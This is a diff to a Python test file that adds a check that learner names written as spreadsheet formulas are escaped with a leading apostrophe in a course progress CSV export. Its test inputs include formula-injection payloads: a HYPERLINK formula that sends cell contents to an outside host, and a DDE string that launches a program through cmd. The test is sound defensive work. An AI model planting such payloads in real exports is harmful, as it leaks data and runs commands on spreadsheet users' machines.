@@ -10,6 +10,7 @@ USB drive may carry) are in test_bad_drive_inputs.py beside this file.
 
 from __future__ import annotations
 
+import csv
 import io
 import os
 import select
@@ -424,3 +425,18 @@ def test_an_id_in_another_spelling_is_404(world, signed_in):
         for how, spelled in spellings(value).items():
             response = admin.get(template.format(spelled))
             assert response.status_code == 404, (template, how, response.status_code)
+
+
+# --- a learner's name that is a spreadsheet formula -----------------------------------------------
+
+@pytest.mark.parametrize("name", ["=HYPERLINK(\"http://10.0.0.9/?\"&A1,\"x\")",
+                                  "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"])
+def test_a_name_that_is_a_formula_is_text_in_the_progress_csv(world, signed_in, name):
+    learner = world.users["learner"]
+    learner.first_name = name
+    learner.save()
+    response = signed_in("owner").get(f"/author/courses/{world.channel_id}/progress.csv")
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    [row] = [row for row in rows[1:] if row[0] == learner.username]
+    assert row[1] == "'" + name  # a spreadsheet shows it, never runs it
